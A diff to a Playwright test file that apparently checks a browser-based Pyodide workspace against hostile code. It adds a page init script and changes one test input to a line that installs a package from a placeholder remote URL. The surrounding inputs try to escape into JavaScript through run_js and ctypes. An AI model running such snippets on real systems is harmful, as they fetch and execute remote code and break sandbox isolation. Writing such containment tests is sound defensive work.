@@ -11,7 +11,7 @@ from collections.abc import Iterator
 import pytest
 from playwright.sync_api import Browser, Error, Frame, Page
 
-from browser.conftest import wait_until_live
+from browser.conftest import SAVE_DATA, wait_until_live
 from browser.workspace import BRIDGE, check, run
 from support.hostile import RIGHT
 
@@ -26,7 +26,7 @@ IMPORTS = (
     "from pyodide.code import run_js",
     "from pyodide.ffi import create_proxy",
     "from pyodide.http import pyfetch",
-    "import micropip",
+    "import micropip; micropip.install('https://example.invalid/a-1-py3-none-any.whl')",
     "import lookback.kernels",
     "import lookback.checker",
     "import ctypes; ctypes.CDLL(None).emscripten_run_script(b'postMessage(1)')",
@@ -151,6 +151,7 @@ JAVASCRIPT = {
 def watched(chromium: Browser, site: str) -> Iterator[tuple[Page, list[str]]]:
     """A page, and the address of every answer that anything on it gets from now on."""
     context = chromium.new_context(base_url=site, service_workers="block")
+    context.add_init_script(SAVE_DATA)
     page = context.new_page()
     page.goto(BRIDGE)
     wait_until_live(page)
